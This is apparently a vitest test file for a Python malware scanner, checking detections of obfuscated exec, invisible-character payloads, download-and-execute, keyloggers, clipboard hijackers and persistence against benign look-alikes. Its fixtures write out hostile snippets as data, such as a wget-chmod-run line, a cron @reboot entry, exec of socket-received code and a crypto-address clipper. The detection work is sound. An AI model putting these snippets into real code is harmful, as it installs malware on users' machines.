// The threat families of families.ts (issue 18 §2), each on its positives and on benign look-alikes.
import { describe, expect, it } from 'vitest';
import { scanPython } from '../../../../../utils/analysis/code-scan/setup-py';

const at = (text: string, context: 'import' | 'build' = 'import') =>
  scanPython('pkg/__init__.py', text, context).map((f) => `${f.level} ${f.check} ${f.line}${f.runs ? ` ${f.runs}` : ''}`);
const only = (check: string, text: string, context: 'import' | 'build' = 'import') =>
  at(text, context).filter((f) => f.split(' ')[1] === check);

describe('char-codes', () => {
  it('chr() chains, bytes.fromhex and byte lists passed to exec/eval/getattr are danger', () => {
    expect(only('char-codes', `exec("".join(map(chr, [112, 114, 105, 110, 116])))\n`)).toEqual(['danger char-codes 1 import']);
    expect(only('char-codes', `exec(bytes.fromhex("7072696e74283129").decode())\n`)).toEqual(['danger char-codes 1 import']);
    expect(only('char-codes', `import os\ngetattr(os, bytes([115, 121, 115, 116, 101, 109]).decode())("id")\n`)).toEqual([
      'danger char-codes 2 import',
    ]);
    expect(only('char-codes', `eval(chr(95) + chr(95) + chr(105) + "mport__('os')")\n`)).toEqual(['danger char-codes 1 import']);
  });

  it('through a variable: a string built from codes earlier in the file, then executed', () => {
    expect(only('char-codes', `_k = "".join(chr(c ^ 7) for c in [119, 117])\npayload = _k\nexec(payload)\n`)).toEqual([
      'danger char-codes 3 import',
    ]);
  });

  it('benign look-alikes: ANSI colour from chr(27), a digest compared with bytes.fromhex, exec of a local file', () => {
    expect(
      at(
        `ESC = chr(27)\nRESET = ESC + "[0m"\nimport hashlib\nok = hashlib.sha256(b"x").digest() == bytes.fromhex("ab" * 32)\nabout = {}\nexec(open("about.py").read(), about)\n`,
      ),
    ).toEqual([]);
  });
});

describe('invisible-character', () => {
  it('a bidi override in code or a zero-width space between tokens is danger; in a string or comment, caution', () => {
    expect(only('invisible-character', `access = "user"\nif access != "user\u202e \u2066# admin\u2069 \u2066":\n    pass\n`)).toEqual([
      'caution invisible-character 2 import',
    ]);
    expect(only('invisible-character', `x = 1\u200b\nimport os\u2067\n`)).toEqual([
      'danger invisible-character 1 import',
      'danger invisible-character 2 import',
    ]);
    expect(only('invisible-character', `# is admin? \u202e nimda si\nok = True\n`)).toEqual(['caution invisible-character 1 import']);
    expect(only('invisible-character', `\u3164 = __import__("os")\n`)).toEqual(['danger invisible-character 1 import']);
  });

  it('the excerpt spells the hidden character out', () => {
    const [f] = scanPython('pkg/__init__.py', `x = 1\u200b\n`, 'import').filter((f) => f.check === 'invisible-character');
    expect(f!.excerpt).toContain('⟨U+200B⟩');
  });

  it('benign look-alikes: a byte-order mark, an emoji with zero-width joiners, an Arabic string with a right-to-left mark', () => {
    expect(
      at(
        `\ufeff"""Module."""\nFAMILY = "👨\u200d👩\u200d👧"\nHELLO = "\u200fمرحبا"\nNAME = "ज़\u200dि"  # zero-width joiner in Devanagari\n`,
      ),
    ).toEqual([]);
  });
});

describe('pyarmor-loader', () => {
  it('PyArmor 8 and 7 runtimes are caution, at import and at install', () => {
    expect(
      only('pyarmor-loader', `from .pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000')\n`),
    ).toEqual(['caution pyarmor-loader 1 import', 'caution pyarmor-loader 2 import']);
    expect(only('pyarmor-loader', `from pytransform import pyarmor_runtime\npyarmor_runtime()\n`, 'build')).toEqual([
      'caution pyarmor-loader 1',
      'caution pyarmor-loader 2',
    ]);
  });

  it('benign look-alikes: a docstring that mentions PyArmor, a config key named pyarmor', () => {
    expect(at(`"""Build with pyarmor_runtime and __pyarmor__ if you like."""\nOPTIONS = {"pyarmor": False}\n`)).toEqual([]);
  });
});

describe('chmod-exec', () => {
  it('a downloaded file marked executable and run is danger; a shell line that fetches and chmods +x too', () => {
    expect(
      only(
        'chmod-exec',
        `import os, subprocess, urllib.request\nurllib.request.urlretrieve("https://x.invalid/a", "/tmp/a")\nos.chmod("/tmp/a", 0o755)\nsubprocess.Popen(["/tmp/a"])\n`,
      ),
    ).toEqual(['danger chmod-exec 3 import']);
    expect(only('chmod-exec', `import os\nos.system("wget -q https://x.invalid/a -O /tmp/a && chmod +x /tmp/a && /tmp/a &")\n`)).toEqual([
      'danger chmod-exec 2 import',
    ]);
    expect(
      only(
        'chmod-exec',
        `import requests, stat, os\nopen("b", "wb").write(requests.get(U).content)\nos.chmod("b", stat.S_IEXEC)\nos.startfile("b")\n`,
      ),
    ).toEqual(['danger chmod-exec 3 import']);
  });

  it('benign look-alikes: a build chmods its own script, a downloader writes a 0o644 file, chmod without a download', () => {
    expect(at(`import os\nos.chmod("build/tool", 0o755)\n`, 'build')).toEqual([]);
    expect(
      only(
        'chmod-exec',
        `import os, subprocess, urllib.request\nurllib.request.urlretrieve(U, "data.csv")\nos.chmod("data.csv", 0o644)\nsubprocess.run(["ls"])\n`,
      ),
    ).toEqual([]);
    expect(only('chmod-exec', `import subprocess\nsubprocess.run(["chmod", "+x", "scripts/run.sh"])\n`)).toEqual([]);
  });
});

describe('hidden windows', () => {
  it('CREATE_NO_WINDOW in a file that downloads is danger download-exec', () => {
    expect(
      only(
        'download-exec',
        `import subprocess, urllib.request\nurllib.request.urlretrieve("https://x.invalid/u.exe", "u.exe")\nsubprocess.Popen(["u.exe"], creationflags=subprocess.CREATE_NO_WINDOW)\n`,
      ),
    ).toEqual(['danger download-exec 3 import']);
  });

  it('CREATE_NO_WINDOW alone (a GUI app calling git quietly) stays quiet', () => {
    expect(
      only('download-exec', `import subprocess\nsubprocess.run(["git", "status"], creationflags=subprocess.CREATE_NO_WINDOW)\n`),
    ).toEqual([]);
  });
});

describe('stealer-capability', () => {
  it('clipboard or screenshots meeting the network are caution, keystrokes danger', () => {
    expect(only('stealer-capability', `import pyperclip, requests\ndata = pyperclip.paste()\nrequests.post(U, data=data)\n`)).toEqual([
      'caution stealer-capability 2 import',
    ]);
    expect(only('stealer-capability', `from PIL import ImageGrab\nimport socket\nimg = ImageGrab.grab()\n`)).toEqual([
      'caution stealer-capability 3 import',
    ]);
    expect(
      only(
        'stealer-capability',
        `from pynput.keyboard import Key, Listener\nimport smtplib\nwith Listener(on_press=log) as l:\n    l.join()\n`,
      ),
    ).toEqual(['danger stealer-capability 1 import']);
    expect(only('stealer-capability', `import keyboard, requests\nkeyboard.on_press(lambda e: requests.post(U, data=e.name))\n`)).toEqual([
      'danger stealer-capability 2 import',
    ]);
  });

  it('alone, a capability is a note (a screenshot tool, a clipboard helper)', () => {
    expect(only('stealer-capability', `import pyautogui\nshot = pyautogui.screenshot()\n`)).toEqual(['info stealer-capability 2 import']);
    expect(only('stealer-capability', `import pyperclip\ndef copy_result(text):\n    pyperclip.copy(text)\n`)).toEqual([]);
  });
});

describe('persistence', () => {
  it('a Windows Run key, the Startup folder, cron, systemd user units, shell rc files, LaunchAgents: danger', () => {
    expect(
      only(
        'persistence',
        `import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, "Updater", 0, winreg.REG_SZ, exe)\n`,
      ),
    ).toEqual(['danger persistence 3 import']);
    expect(
      only(
        'persistence',
        `import os, shutil\nstartup = os.path.join(os.getenv("APPDATA"), "Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup")\nshutil.copy(__file__, startup)\n`,
      ),
    ).toEqual(['danger persistence 3 import']);
    expect(only('persistence', `import os\nos.system('(crontab -l; echo "@reboot python3 /tmp/.x.py") | crontab -')\n`)).toEqual([
      'danger persistence 2 import',
    ]);
    expect(only('persistence', `import os\nrc = os.path.expanduser("~/.bashrc")\nwith open(rc, "a") as f:\n    f.write(LINE)\n`)).toEqual([
      'danger persistence 3 import',
    ]);
    expect(
      only(
        'persistence',
        `from pathlib import Path\n(Path.home() / ".config/systemd/user/u.service").write_text(UNIT)\nimport os\nos.system("systemctl --user enable u")\n`,
      ),
    ).toEqual(['danger persistence 2 import', 'danger persistence 4 import']);
    expect(only('persistence', `open(os.path.expanduser("~/Library/LaunchAgents/com.u.plist"), "w").write(PLIST)\n`)).toEqual([
      'danger persistence 1 import',
    ]);
  });

  it("writing into site-packages (another package's files, a .pth) is danger", () => {
    expect(
      only(
        'persistence',
        `import site, os\nsp = site.getsitepackages()[0]\nwith open(os.path.join(sp, "requests", "__init__.py"), "a") as f:\n    f.write(HOOK)\n`,
      ),
    ).toEqual(['danger persistence 3 import']);
    expect(only('persistence', `open(os.path.join(target, "zz_hook.pth"), "w").write("import hook")\n`)).toEqual([
      'danger persistence 1 import',
    ]);
  });

  it('inside a function nothing calls, one level lower', () => {
    expect(only('persistence', `def enable_autostart():\n    os.system("schtasks /create /sc onlogon /tn app /tr app.exe")\n`)).toEqual([
      'caution persistence 2 package',
    ]);
  });

  it('benign look-alikes: reading ~/.bashrc, listing site-packages, a crontab documented in a docstring, crontab -l', () => {
    expect(
      at(
        `"""Add '@reboot run' with crontab -e."""\nimport os, site\nwith open(os.path.expanduser("~/.bashrc")) as f:\n    RC = f.read()\nPATHS = site.getsitepackages()\nfor p in PATHS:\n    print(os.listdir(p))\nimport subprocess\nsubprocess.run(["crontab", "-l"])\n`,
      ).filter((f) => f.includes('persistence')),
    ).toEqual([]);
  });
});

describe('clipper (stealer-capability)', () => {
  it('a clipboard write in a file that reads the clipboard and matches crypto addresses is danger, network or not', () => {
    expect(
      only(
        'stealer-capability',
        `import re, pyperclip\ndata = pyperclip.paste()\nif re.search('^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$', data):\n    pyperclip.copy(ATTACKER)\nif re.search('^0x[a-fA-F0-9]{40}$', data):\n    pyperclip.copy(ATTACKER_ETH)\n`,
      ),
    ).toEqual(['info stealer-capability 2 import', 'danger stealer-capability 4 import', 'danger stealer-capability 6 import']);
  });

  it('benign look-alikes: a line-break cleaner that writes back what it read, a wallet that pastes and copies without an address regex', () => {
    expect(
      only('stealer-capability', `import re, pyperclip\ndef clean():\n    pyperclip.copy(re.sub(r'\\n', ' ', pyperclip.paste()))\n`).filter(
        (f) => !f.startsWith('info'),
      ),
    ).toEqual([]);
    expect(
      only(
        'stealer-capability',
        `import pyperclip\nclass Pay:\n    def paste(self):\n        t = pyperclip.paste()\n        if self.wallet.is_address(t):\n            self.to = t\n    def copy(self):\n        pyperclip.copy(self.wallet.address)\n`,
      ).filter((f) => !f.startsWith('info')),
    ).toEqual([]);
  });
});

describe('stealer capabilities meet the network where the code runs', () => {
  it('a keyboard listener and a send in the same function stay a threat, a level lower in the package', () => {
    expect(
      only(
        'stealer-capability',
        `import requests\nfrom pynput import keyboard\ndef spy():\n    keyboard.Listener(on_press=lambda k: requests.post(U, data=str(k))).start()\n`,
      ),
    ).toEqual(['caution stealer-capability 4 package']);
  });

  it('benign look-alike: push-to-talk listens in one method and posts audio in another: a note', () => {
    expect(
      only(
        'stealer-capability',
        `import requests\nfrom pynput import keyboard\nclass PushToTalk:\n    def start(self):\n        keyboard.Listener(on_press=self.on_press).start()\n    def transcribe(self, audio):\n        return requests.post(self.url, data=audio)\n`,
      ),
    ).toEqual(['info stealer-capability 5 package']);
  });

  it('a hidden window counts with a download in the code that runs, not one in an uncalled function', () => {
    expect(
      only(
        'download-exec',
        `import subprocess, urllib.request\ndef update():\n    urllib.request.urlretrieve(U, "u.exe")\nsubprocess.Popen(["git", "status"], creationflags=subprocess.CREATE_NO_WINDOW)\n`,
      ),
    ).toEqual([]);
  });
});

describe('invisible payloads', () => {
  const ws = [...'print(1)']
    .map((c) => c.charCodeAt(0).toString(2).padStart(8, '0'))
    .join('')
    .replace(/1/g, '\t')
    .replace(/0/g, ' ');
  it('a string of only tabs and spaces is danger (loquru)', () => {
    expect(only('invisible-character', `singleton = '${ws}'\nexec(decode(singleton))\n`)).toEqual(['danger invisible-character 1 import']);
  });

  it('variation selectors carrying data, in a string or in code, and zero-width runs are danger (GlassWorm)', () => {
    const vs = [...'print(1)'].map((c) => String.fromCodePoint(0xfe00 + (c.charCodeAt(0) & 15), 0xe0100 + (c.charCodeAt(0) >> 4))).join('');
    expect(only('invisible-character', `_p = '${vs}'\n`)).toEqual(['danger invisible-character 1 import']);
    expect(only('invisible-character', `x\ufe04 = 1\n`)).toEqual(['danger invisible-character 1 import']);
    expect(only('invisible-character', `_p = '${'\u200b\u200c'.repeat(8)}'\n`)).toEqual(['danger invisible-character 1 import']);
  });

  it('benign look-alikes: a blank ruler of spaces, the England flag and a heart with VS16, RTL text closed in its string', () => {
    expect(
      at(
        `BLANK = '${' '.repeat(120)}'\nFLAG = '\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}'\nHEART = '\u2764\ufe0f'\nFA = '\u2067\u0633\u0644\u0627\u0645.\u2069'\nHE = '\u202b\u05e9\u05dc\u05d5\u05dd\u202c'\n`,
      ),
    ).toEqual([]);
  });
});

describe('download-exec of received data', () => {
  it('exec of bytes read from a socket the file connects out with, or of an HTTP response held in a name, is danger', () => {
    expect(
      only('download-exec', `import socket\ns = socket.socket()\ns.connect((H, 9009))\nd = s.recv(4096)\nexec(d, {'s': s})\n`),
    ).toEqual(['danger download-exec 5 import']);
    expect(only('download-exec', `import requests\ncode = requests.get(U).text\nexec(code)\n`)).toEqual(['danger download-exec 3 import']);
  });

  it('benign look-alike: a console server running what a client sends (it accepts, never connects out)', () => {
    expect(
      only(
        'download-exec',
        `import socket\nclass Server:\n    def serve(self):\n        srv = socket.socket()\n        srv.bind(('127.0.0.1', 0))\n        conn, _ = srv.accept()\n        code = conn.recv(65536)\n        exec(code, self.ns)\n`,
      ),
    ).toEqual([]);
  });
});
